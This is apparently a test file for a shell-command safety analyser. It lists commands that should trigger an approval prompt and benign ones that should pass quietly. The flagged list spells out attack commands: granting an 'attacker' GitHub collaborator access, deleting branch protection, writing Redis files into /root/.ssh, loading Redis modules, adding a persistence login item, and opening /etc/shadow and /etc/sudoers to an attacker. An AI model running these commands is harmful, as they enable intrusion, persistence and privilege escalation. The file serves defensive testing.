import { beforeAll, describe, it } from 'vitest';
import { initShellParser } from '../analyse';
import { expectVerdicts, type Expected } from '../../testing/heldOut';

beforeAll(() => initShellParser());

const project = { cwd: '/home/dev/project', workspace: '/home/dev/project' };

/*
 * Written before the rules: a repository's secrets, access and workflows changed on its host;
 * Redis told to write its files elsewhere or to load code; a login item added by AppleScript;
 * ACLs of system files.
 */
const asks: Array<readonly [Expected, string]> = [
  ['ask', 'gh workflow run deploy.yml --ref main'],
  ['ask', 'gh secret set PROD_KEY < key.txt'],
  ['ask', 'gh secret set NPM_TOKEN --body "$TOKEN" --repo org/app'],
  ['ask', 'gh variable set DEPLOY_ENV --body prod'],
  ['ask', 'gh api -X PUT repos/org/app/collaborators/attacker'],
  ['ask', 'gh api --method DELETE repos/org/app/branches/main/protection'],
  ['ask', 'gh api -X POST repos/org/app/hooks -f config[url]=https://x.example'],
  ['ask', 'gh api repos/org/app/keys -f key="ssh-ed25519 AAAA" -f title=x'],
  ['ask', 'redis-cli -h prod CONFIG SET dir /root/.ssh'],
  ['ask', 'redis-cli config set dbfilename authorized_keys'],
  ['ask', 'redis-cli SLAVEOF x.example.com 6379'],
  ['ask', 'redis-cli MODULE LOAD /tmp/x.so'],
  ['ask', 'redis-cli -h prod SHUTDOWN NOSAVE'],
  [
    'ask',
    `osascript -e 'tell application "System Events" to make login item at end with properties {path:"/tmp/x.app"}'`,
  ],
  ['ask', 'setfacl -m u:attacker:rwx /etc/shadow'],
  ['ask', 'setfacl -m u:attacker:rw /etc/sudoers'],
  ['ask', 'chattr -i /etc/passwd'],
];

const quiet: Array<readonly [Expected, string]> = [
  ['quiet', 'gh workflow list'],
  ['quiet', 'gh workflow view ci.yml'],
  ['quiet', 'gh secret list'],
  ['quiet', 'gh api repos/org/app/collaborators'],
  ['quiet', 'gh api repos/org/app/pulls --jq ".[].title"'],
  ['quiet', "gh api -X POST repos/org/app/issues -f title='Flaky test' -f body='see CI'"],
  ['quiet', 'redis-cli CONFIG GET maxmemory'],
  ['quiet', 'redis-cli INFO replication'],
  ['quiet', `osascript -e 'display notification "Build done" with title "make"'`],
  ['quiet', 'setfacl -m u:www-data:rx ./public'],
  ['quiet', 'getfacl /etc/shadow'],
];

describe('hosted repository settings, Redis administration, login items and ACLs', () => {
  it('asks before each changes what runs, who may enter or where data goes', () =>
    expectVerdicts(asks, project));
  it('keeps listing, reading and ordinary calls quiet', () => expectVerdicts(quiet, project));
});
